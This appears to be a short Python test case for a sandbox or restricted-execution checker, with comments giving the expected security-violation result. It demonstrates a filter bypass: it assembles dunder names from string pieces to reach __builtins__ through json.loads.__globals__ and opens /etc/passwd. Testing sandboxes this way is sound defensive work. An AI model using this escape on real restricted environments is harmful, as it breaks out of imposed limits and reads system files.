# Reaches a module's globals through a function of it.
# checked: security_violation openat
# bypassed: security_violation openat
import json
u = '_' * 2
builtins = getattr(json.loads, u + 'globals' + u)[u + 'builtins' + u]
builtins['open']('/etc/passwd')
